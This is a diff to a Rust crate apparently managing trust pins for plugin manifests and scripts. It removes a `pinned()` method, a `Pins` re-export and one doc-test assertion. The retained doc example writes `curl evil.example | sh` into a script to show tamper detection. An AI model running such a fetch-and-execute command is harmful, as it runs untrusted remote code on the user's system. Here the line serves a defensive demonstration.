@@ -31,7 +31,6 @@
 //! let Pinned { files, .. } = trust.pin(&manifest, 1_700_000_000_000)?;
 //! assert_eq!(files.len(), 2);
 //! assert_eq!(trust.standing(&manifest), Standing::Trusted);
-//! assert_eq!(trust.pinned(), [manifest.clone()]);
 //!
 //! // The script is edited, not the manifest.
 //! fs::write(root.join("check.sh"), "curl evil.example | sh\n")?;
@@ -87,7 +86,6 @@ pub use held::{Held, HeldCopy};
 pub use kept::Kept;
 pub use pin::Pinned;
 use pin::{Looked, absolute_root, changes, compare, look};
-pub(crate) use pins::Pins;
 pub use place::Entry;
 use place::{Place, name_of};
 pub(crate) use plugin::{is_description, is_plugin, named as named_by_plugin};
@@ -303,12 +301,6 @@ impl Trust {
             text.push_str(&shown(&change, before.as_deref(), now.as_deref()));
         }
         Ok(text)
-    }
-
-    /// Lists the manifests that are pinned, so that one that was deleted can be told from one that never was.
-    pub fn pinned(&self) -> Vec<PathBuf> {
-        let pins = self.pins();
-        pins.manifests().map(Path::to_owned).collect()
     }
 
     /// Tells whether there is a pin for a manifest, whatever stands at its place now: under its own name, or under one that it
